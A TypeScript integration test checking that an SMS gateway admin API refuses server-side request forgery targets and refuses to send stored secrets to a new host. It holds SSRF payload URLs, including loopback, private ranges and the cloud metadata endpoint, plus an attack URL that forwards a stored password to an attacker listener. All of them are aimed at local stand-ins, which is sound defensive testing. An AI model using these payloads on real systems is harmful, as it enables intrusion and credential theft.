/**
 * Issue 10 item 2, as a hostile tenant admin would try it through the REST API and the admin
 * pages: point an SMS gateway at the server's own network and read the answer back with "test
 * send", or move a stored secret to an address of their choosing. The guard itself is tested in
 * src/sms/destinations.test.ts.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type AdminClient, createApiToken, signedInAdmin } from '../../../test/helpers/admin.js';
import { buildTestApp, type TestApp } from '../../../test/helpers/app.js';
import { TEST_DIALECTS } from '../../../test/helpers/databases.js';
import { createTenant } from '../../../test/helpers/factories.js';
import { startHttpStandIn, type StandIn } from '../../sms/test-servers.js';

const INTERNAL_PAGE = 'INTERNAL-ONLY admin console: db_password=hunter2';

describe.each(TEST_DIALECTS)('SMS gateway destinations (%s)', (dialect) => {
  /** An internal HTTP service on the loopback that must stay unreachable. */
  let internal: StandIn;
  let internalPort: string;

  beforeAll(async () => {
    internal = await startHttpStandIn(() => ({ status: 500, body: INTERNAL_PAGE, contentType: 'text/html' }));
    internalPort = new URL(internal.url).port;
  });
  afterAll(() => internal.close());

  async function tenantClients(app: TestApp, host: string) {
    const tenantId = (await createTenant(app.store.db, { name: 'Hostile Café', hosts: [host] })).id;
    const token = await createApiToken(app, tenantId, 'owner');
    const owner = await signedInAdmin(app, tenantId, { role: 'owner' }, host);
    const api = (method: 'GET' | 'POST' | 'PATCH', url: string, payload?: Record<string, unknown>) =>
      app.http.inject({
        method,
        url,
        headers: { host, authorization: `Bearer ${token}` },
        ...(payload ? { payload } : {}),
      });
    return { tenantId, owner, api };
  }

  describe('with no allow-list (the default)', () => {
    let app: TestApp;
    let api: Awaited<ReturnType<typeof tenantClients>>['api'];
    let owner: AdminClient;
    let tenantId: number;
    const host = 'hostile.example.com';

    beforeAll(async () => {
      app = await buildTestApp(dialect);
      ({ api, owner, tenantId } = await tenantClients(app, host));
    });
    afterAll(() => app.destroy());

    const attacks = () => [
      { type: 'http', settings: { url: `http://127.0.0.1:${internalPort}/` }, kind: 'loopback' },
      {
        type: 'http',
        settings: { url: `http://localhost:${internalPort}/` },
        kind: 'resolves to a loopback',
      },
      { type: 'http', settings: { url: 'http://169.254.169.254/latest/meta-data/' }, kind: 'link-local' },
      { type: 'http', settings: { url: `http://[::1]:${internalPort}/` }, kind: 'loopback' },
      { type: 'http', settings: { url: `http://[::ffff:127.0.0.1]:${internalPort}/` }, kind: 'loopback' },
      { type: 'http', settings: { url: 'http://10.0.0.1/' }, kind: 'private' },
      { type: 'http', settings: { url: 'http://[fd00:ec2::254]/' }, kind: 'unique local' },
      { type: 'http', settings: { url: 'http://100.100.100.200/' }, kind: 'carrier-grade NAT' },
      {
        type: 'twilio',
        settings: {
          baseUrl: `http://127.0.0.1:${internalPort}`,
          accountSid: 'AC1',
          secret: 't',
          from: '+15005550006',
        },
        kind: 'loopback',
      },
      {
        type: 'smpp',
        settings: { host: 'localhost', port: Number(internalPort), systemId: 'x' },
        kind: 'loopback',
      },
      { type: 'smpp', settings: { host: '169.254.169.254', systemId: 'x' }, kind: 'link-local' },
    ];

    it('refuses to save a gateway pointing at the server network, with a clear error (API)', async () => {
      for (const attack of attacks()) {
        const created = await api('POST', '/api/v1/sms-gateways', {
          name: 'Probe',
          type: attack.type,
          settings: attack.settings,
        });
        expect(created.statusCode, JSON.stringify(attack.settings)).toBe(400);
        const body = created.json<{ code: string; title: string }>();
        expect(body.code).toBe('VALIDATION');
        expect(body.title).toContain(attack.kind);
        expect(body.title).toContain('PORTICO_SMS_ALLOWED_HOSTS');
      }
      expect((await api('GET', '/api/v1/sms-gateways')).json()).toEqual({ items: [] });
      expect(internal.requests).toHaveLength(0);
    });

    it('refuses the same in the admin form, keeping what was typed', async () => {
      const page = await owner.post(
        '/admin/config/sms-gateways',
        {
          type: 'http',
          name: 'Probe',
          s_url: `http://localhost:${internalPort}/probe`,
          s_method: 'GET',
          s_contentType: 'form',
          s_timeoutSeconds: '5',
        },
        '/admin/config/sms-gateways/new?type=http',
      );
      expect(page.statusCode).toBe(400);
      expect(page.body).toContain('resolves to a loopback address, which is not allowed');
      expect(page.body).toContain(`value="http://localhost:${internalPort}/probe"`);
      expect(internal.requests).toHaveLength(0);
    });

    it('refuses at send time too (a gateway saved before, or DNS that changed): nothing is fetched or shown', async () => {
      const gateway = await api('POST', '/api/v1/sms-gateways', {
        name: 'Was public',
        type: 'http',
        settings: { url: 'http://93.184.216.34/send?to={to}' },
      });
      expect(gateway.statusCode).toBe(201);
      const id = gateway.json<{ id: number }>().id;
      for (const url of [
        `http://127.0.0.1:${internalPort}/`,
        `http://localhost:${internalPort}/`,
        `http://[::ffff:127.0.0.1]:${internalPort}/`,
        'http://169.254.169.254/latest/meta-data/',
      ]) {
        // Bypasses the service's save-time check, as an old row or a changed allow-list would.
        await app.sms.repository.updateGateway(tenantId, id, {
          settingsJson: JSON.stringify({ ...gateway.json<{ settings: object }>().settings, url }),
          nowMs: app.clock.nowMs(),
        });
        app.sms.registry.forget(id);
        const test = await api('POST', `/api/v1/sms-gateways/${id}/test`, { to: '+12025550123' });
        expect(test.statusCode).toBe(200);
        expect(test.json()).toMatchObject({ status: 'failed', gatewayAnswer: null });
        expect(test.json<{ error: string }>().error).toMatch(
          /is (loopback|link-local)|resolves to a loopback/,
        );
        expect(test.body).not.toContain('INTERNAL-ONLY');
        const page = await owner.post(
          `/admin/config/sms-gateways/${id}/test`,
          { to: '+12025550123' },
          `/admin/config/sms-gateways/${id}`,
        );
        expect(page.body).toContain('The test SMS failed');
        expect(page.body).toContain('which is not allowed');
        expect(page.body).not.toContain('INTERNAL-ONLY');
      }
      expect(internal.requests).toHaveLength(0);
    });
  });

  describe('with the loopback allowed by the operator (a Kannel beside Portico)', () => {
    let app: TestApp;
    let api: Awaited<ReturnType<typeof tenantClients>>['api'];
    let owner: AdminClient;
    let kannel: StandIn;
    /** The attacker's own listener, standing in for a server on the Internet. */
    let catcher: StandIn;
    const host = 'kannel-owner.example.com';

    beforeAll(async () => {
      app = await buildTestApp(dialect, { env: { PORTICO_SMS_ALLOWED_HOSTS: '127.0.0.1' } });
      ({ api, owner } = await tenantClients(app, host));
      kannel = await startHttpStandIn(() => ({ status: 202, body: '0: Accepted for delivery' }));
      catcher = await startHttpStandIn(() => ({ status: 200, body: 'thanks' }));
    });
    afterAll(async () => {
      await kannel.close();
      await catcher.close();
      await app.destroy();
    });

    it('a test send reports the status and a fixed explanation, never the body', async () => {
      const created = await api('POST', '/api/v1/sms-gateways', {
        name: 'Internal',
        type: 'http',
        settings: { url: `${internal.url}/?to={to}` },
      });
      expect(created.statusCode).toBe(201);
      const id = created.json<{ id: number }>().id;
      const test = await api('POST', `/api/v1/sms-gateways/${id}/test`, { to: '+12025550123' });
      expect(test.json()).toMatchObject({
        status: 'failed',
        gatewayAnswer: 'HTTP 500',
        error: 'Internal: the gateway answered HTTP 500 (a server error on its side)',
      });
      const page = await owner.post(
        `/admin/config/sms-gateways/${id}/test`,
        { to: '+12025550123' },
        `/admin/config/sms-gateways/${id}`,
      );
      expect(page.body).toContain('HTTP 500 (a server error on its side)');
      for (const shown of [test.body, page.body, (await owner.get('/admin/logs/sms')).body])
        expect(shown).not.toContain('INTERNAL-ONLY');
      expect(internal.requests.length).toBeGreaterThan(0); // it was reached: allowed here
    });

    it('a stored password cannot be moved to a new URL (?pw={password}) without typing it again', async () => {
      const created = await api('POST', '/api/v1/sms-gateways', {
        name: 'Kannel',
        type: 'http',
        settings: {
          url: `${kannel.url}/cgi-bin/sendsms?username={username}&password={password}&to={to}&text={text}`,
          username: 'portico',
          password: 'kannel-secret',
          headerName: 'X-Api-Key',
          headerValue: 'header-secret',
        },
      });
      expect(created.statusCode).toBe(201);
      const id = created.json<{ id: number }>().id;
      const settings = created.json<{ settings: Record<string, unknown> }>().settings;

      for (const url of [
        `${catcher.url}/x?pw={password}`, // the attack from the issue: another host
        `${kannel.url}/cgi-bin/sendsms?to={to}&text={text}&log={password}`, // same host, new placeholder
      ]) {
        const moved = await api('PATCH', `/api/v1/sms-gateways/${id}`, { settings: { ...settings, url } });
        expect(moved.statusCode).toBe(400);
        expect(moved.json<{ title: string }>().title).toBe(
          'Changing where the gateway connects (url) needs its secrets typed again: password, headerValue. ' +
            'Stored secrets are never sent to a new destination.',
        );
        const form = await owner.post(
          `/admin/config/sms-gateways/${id}`,
          {
            name: 'Kannel',
            s_url: url,
            s_method: 'GET',
            s_contentType: 'form',
            s_username: 'portico',
            s_timeoutSeconds: '10',
          },
          `/admin/config/sms-gateways/${id}`,
        );
        expect(form.statusCode).toBe(400);
        expect(form.body).toContain('needs its secrets typed again');
        expect(form.body).toContain(`value="${url.replaceAll('&', '&amp;')}"`); // what was typed stays
        expect(form.body).not.toContain('kannel-secret');
      }
      // Only one of two secrets typed again: still refused.
      const half = await api('PATCH', `/api/v1/sms-gateways/${id}`, {
        settings: { ...settings, url: `${catcher.url}/x?pw={password}`, password: 'typed-again' },
      });
      expect(half.statusCode).toBe(400);
      expect(half.json<{ title: string }>().title).toContain('needs its secrets typed again: headerValue');

      await api('POST', `/api/v1/sms-gateways/${id}/test`, { to: '+12025550123' });
      expect(catcher.requests).toHaveLength(0);
      expect(kannel.requests.at(-1)!.url).toContain('password=kannel-secret');

      // Typing both again moves the gateway: the secrets sent are the ones just typed.
      const typed = await api('PATCH', `/api/v1/sms-gateways/${id}`, {
        settings: {
          ...settings,
          url: `${catcher.url}/x?pw={password}`,
          password: 'typed-again',
          headerValue: 'h2',
        },
      });
      expect(typed.statusCode).toBe(200);
      await api('POST', `/api/v1/sms-gateways/${id}/test`, { to: '+12025550123' });
      expect(catcher.requests.at(-1)!.url).toBe('/x?pw=typed-again');

      // Edits that keep the destination still keep the secrets without typing them.
      const renamed = await api('PATCH', `/api/v1/sms-gateways/${id}`, {
        name: 'Kannel 2',
        settings: { ...typed.json<{ settings: object }>().settings, timeoutSeconds: 5 },
      });
      expect(renamed.statusCode).toBe(200);
      expect(renamed.json()).toMatchObject({ secretsSet: ['password', 'headerValue'] });
    });

    it('twilio and SMPP: a new base URL or host needs the secret again', async () => {
      const twilio = await api('POST', '/api/v1/sms-gateways', {
        name: 'Twilio',
        type: 'twilio',
        settings: { baseUrl: kannel.url, accountSid: 'AC1', secret: 'auth-token', from: '+15005550006' },
      });
      expect(twilio.statusCode).toBe(201);
      const twilioSettings = twilio.json<{ settings: Record<string, unknown> }>().settings;
      const movedTwilio = await api('PATCH', `/api/v1/sms-gateways/${twilio.json<{ id: number }>().id}`, {
        settings: { ...twilioSettings, baseUrl: catcher.url },
      });
      expect(movedTwilio.statusCode).toBe(400);
      expect(movedTwilio.body).toContain('(baseUrl) needs its secrets typed again: secret');

      const smsc = await api('POST', '/api/v1/sms-gateways', {
        name: 'SMSC',
        type: 'smpp',
        settings: { host: '127.0.0.1', systemId: 'portico', password: 'pw' },
      });
      expect(smsc.statusCode).toBe(201);
      const smscId = smsc.json<{ id: number }>().id;
      const smscSettings = smsc.json<{ settings: Record<string, unknown> }>().settings;
      for (const change of [{ port: 2776 }, { tls: true, verifyTls: false }]) {
        const moved = await api('PATCH', `/api/v1/sms-gateways/${smscId}`, {
          settings: { ...smscSettings, ...change },
        });
        expect(moved.statusCode, JSON.stringify(change)).toBe(400);
        expect(moved.body).toContain('needs its secrets typed again: password');
      }
      const withPassword = await api('PATCH', `/api/v1/sms-gateways/${smscId}`, {
        settings: { ...smscSettings, port: 2776, password: 'pw2' },
      });
      expect(withPassword.statusCode).toBe(200);
    });
  });
});
